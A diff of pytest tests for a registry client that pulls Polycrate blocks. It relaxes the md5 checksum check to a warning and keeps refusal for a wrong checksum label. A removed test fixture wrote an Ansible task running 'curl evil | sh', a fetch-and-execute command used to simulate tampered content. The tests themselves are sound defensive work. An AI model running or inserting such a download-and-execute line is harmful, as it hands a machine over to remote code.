@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import io
 import json
+import logging
 import shutil
 import tarfile
 from collections.abc import Callable
@@ -67,7 +68,7 @@ def polycrate_labels(block: Path, ref: BlockRef) -> dict[str, str]:
 
 @pytest.mark.parametrize("oci_manifest", [False, True], ids=["docker-manifest", "oci-manifest"])
 def test_polycrate_pushed_two_layer_block_pulls_and_is_ready_to_run(
-    oci_registry: Registry, tmp_path: Path, oci_manifest: bool
+    oci_registry: Registry, tmp_path: Path, oci_manifest: bool, caplog: pytest.LogCaptureFixture
 ) -> None:
     ref = new_ref(oci_registry.host)
     client = client_for(oci_registry.host, tmp_path)
@@ -80,8 +81,10 @@ def test_polycrate_pushed_two_layer_block_pulls_and_is_ready_to_run(
         oci_manifest=oci_manifest,
     )
 
-    pulled = pull_block(ref, tmp_path / "ws", client=client)
+    with caplog.at_level(logging.WARNING, logger="controller.registry.pull"):
+        pulled = pull_block(ref, tmp_path / "ws", client=client)
 
+    assert (pulled.notes, caplog.messages) == ((), [])  # the md5 label matches: nothing to say
     assert pulled.digest == digest
     assert pulled.path == tmp_path / "ws" / "blocks" / ref.registry / ref.repository
     assert pulled.block.name == ref.repository  # Polycrate's registry-less name is accepted
@@ -122,33 +125,85 @@ def test_a_block_poly_naming_another_block_is_refused(
     assert_nothing_written(tmp_path / "ws", ref)
 
 
-def test_md5_checksum_mismatch_is_refused_and_nothing_is_written(
-    oci_registry: Registry, tmp_path: Path
+def test_an_md5_label_we_do_not_reproduce_is_a_warning_and_the_block_still_pulls(
+    oci_registry: Registry, tmp_path: Path, caplog: pytest.LogCaptureFixture
 ) -> None:
+    """The label lives in the config the manifest digest covers: a difference cannot be
+    tampering, only our reading of hashdir or another state of the directory Polycrate hashed."""
     ref = new_ref(oci_registry.host)
     client = client_for(oci_registry.host, tmp_path)
     src = polycrate_block(tmp_path / "src", ref)
     labels = polycrate_labels(src, ref)
-    (src / "deploy.yml").write_text("- hosts: all\n  tasks: [{command: 'curl evil | sh'}]\n")
+    (src / "NOTES.md").write_text("written after Polycrate hashed the directory\n")
     push_polycrate_image(client, ref, [BASE, polycrate_layer(src)], labels)
 
-    with pytest.raises(DigestMismatchError, match="Polycrate checksum") as err:
-        pull_block(ref, tmp_path / "ws", client=client)
-    assert err.value.reason == "DigestMismatch"
-    assert not err.value.retryable  # tampered content: retrying cannot help, the status stalls
-    assert_nothing_written(tmp_path / "ws", ref)
+    with caplog.at_level(logging.WARNING, logger="controller.registry.pull"):
+        pulled = pull_block(ref, tmp_path / "ws", client=client)
+
+    assert (pulled.path / "NOTES.md").is_file()
+    expected, actual = labels[fmt.LABEL_POLYCRATE_CHECKSUM], polycrate_md5(src)
+    (note,) = pulled.notes
+    for part in (str(ref), expected, actual, "content verified by its OCI digests"):
+        assert part in note
+    assert [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING] == [note]
 
 
-def test_a_checksum_algorithm_other_than_md5_is_refused(
+def test_a_checksum_algorithm_other_than_md5_is_not_checked_and_says_so(
+    oci_registry: Registry, tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    src = polycrate_block(tmp_path / "src", ref)
+    labels = {**polycrate_labels(src, ref), fmt.LABEL_POLYCRATE_CHECKSUM_ALGO: "sha256"}
+    push_polycrate_image(client, ref, [polycrate_layer(src)], labels)
+    with caplog.at_level(logging.WARNING, logger="controller.registry.pull"):
+        pulled = pull_block(ref, tmp_path / "ws", client=client)
+    (note,) = pulled.notes
+    assert "made with sha256" in note and "not checked" in note
+    assert note in caplog.messages
+
+
+def test_a_checksum_that_cannot_be_computed_is_noted_and_the_block_still_pulls(
+    oci_registry: Registry, tmp_path: Path
+) -> None:
+    """Polycrate never pushes a symlink, another tool may: hashdir could not hash through one
+    to a directory, so neither do we, and that is no reason to refuse the block."""
+    ref = new_ref(oci_registry.host)
+    client = client_for(oci_registry.host, tmp_path)
+    poly = f"name: {ref.repository}\nversion: {ref.tag}\nactions: []\n".encode()
+    layer = io.BytesIO()
+    with tarfile.open(fileobj=layer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        info = tarfile.TarInfo("block.poly")
+        info.size = len(poly)
+        tar.addfile(info, io.BytesIO(poly))
+        directory = tarfile.TarInfo("templates")
+        directory.type = tarfile.DIRTYPE
+        tar.addfile(directory)
+        link = tarfile.TarInfo("current")
+        link.type, link.linkname = tarfile.SYMTYPE, "templates"
+        tar.addfile(link)
+    labels = {fmt.LABEL_POLYCRATE_CHECKSUM: "0" * 32, fmt.LABEL_POLYCRATE_CHECKSUM_ALGO: "md5"}
+    push_polycrate_image(client, ref, [layer.getvalue()], labels)
+
+    (note,) = pull_block(ref, tmp_path / "ws", client=client).notes
+    assert "not checked" in note and "symlink to a directory" in note
+
+
+def test_a_wrong_cratekeeper_checksum_label_is_refused_and_nothing_is_written(
     oci_registry: Registry, tmp_path: Path
 ) -> None:
     ref = new_ref(oci_registry.host)
     client = client_for(oci_registry.host, tmp_path)
     src = polycrate_block(tmp_path / "src", ref)
-    labels = {**polycrate_labels(src, ref), fmt.LABEL_POLYCRATE_CHECKSUM_ALGO: "crc32"}
-    push_polycrate_image(client, ref, [polycrate_layer(src)], labels)
-    with pytest.raises(DigestMismatchError, match="'crc32'"):
+    wrong = "sha256:" + "0" * 64
+    labels = {**polycrate_labels(src, ref), fmt.LABEL_CHECKSUM: wrong}
+    push_polycrate_image(client, ref, [BASE, polycrate_layer(src)], labels)
+
+    with pytest.raises(DigestMismatchError, match=fmt.LABEL_CHECKSUM) as err:
         pull_block(ref, tmp_path / "ws", client=client)
+    assert err.value.reason == "DigestMismatch"
+    assert not err.value.retryable  # we know how we compute it: a mismatch is tampering
+    assert_nothing_written(tmp_path / "ws", ref)
 
 
 def test_cratekeeper_pushes_polycrates_labels_and_a_layer_polycrate_can_unpack(
@@ -363,7 +418,8 @@ def test_reconcile_deploys_a_polycrate_pushed_block_with_one_registry_head(
 ) -> None:
     """The example app block, named and pushed as `polycrate blocks push` does, applied by
     `cratekeeper reconcile` with real Git, the real registry, real Ansible, emulated cluster;
-    the registry sees one HEAD for the one block that runs (issue 11 point 1)."""
+    the registry sees one HEAD for the one block that runs (issue 11 point 1). Its md5 label
+    is one cratekeeper does not reproduce: the block still runs, and the progress says so."""
     proxy = registry_proxy()
     ref = BlockRef.parse(f"{proxy.host}/acme/apps/app-deploy-polycrate:1.2.0")
     block = tmp_path / "block"
@@ -371,9 +427,8 @@ def test_reconcile_deploys_a_polycrate_pushed_block_with_one_registry_head(
     poly = block / "block.poly"
     poly.write_text(poly.read_text().replace(SEED_NAME, ref.repository))  # no registry host
     client = client_for(proxy.host, tmp_path)
-    digest = push_polycrate_image(
-        client, ref, [BASE, polycrate_layer(block)], polycrate_labels(block, ref)
-    )
+    labels = {**polycrate_labels(block, ref), fmt.LABEL_POLYCRATE_CHECKSUM: "9ef21c10" * 4}
+    digest = push_polycrate_image(client, ref, [BASE, polycrate_layer(block)], labels)
 
     repo = GitRepo(tmp_path / "acme-production-1")
     shutil.copytree(EXAMPLES / "acme-production-1", repo.path, dirs_exist_ok=True)
@@ -388,7 +443,10 @@ def test_reconcile_deploys_a_polycrate_pushed_block_with_one_registry_head(
         ["reconcile", str(repo.path), "--state", str(state), "--insecure-registry", ref.registry]
     )
 
-    assert code == 0, capsys.readouterr()
+    out = capsys.readouterr().out
+    assert code == 0, out
+    (note,) = [line for line in out.splitlines() if fmt.LABEL_POLYCRATE_CHECKSUM in line]
+    assert "9ef21c10" * 4 in note and "content verified by its OCI digests" in note
     namespace = "acme-app-acme-production-1"
     deployment = kube_emulator.get("apps/v1/deployments", "acme-app", namespace=namespace)
     assert deployment is not None
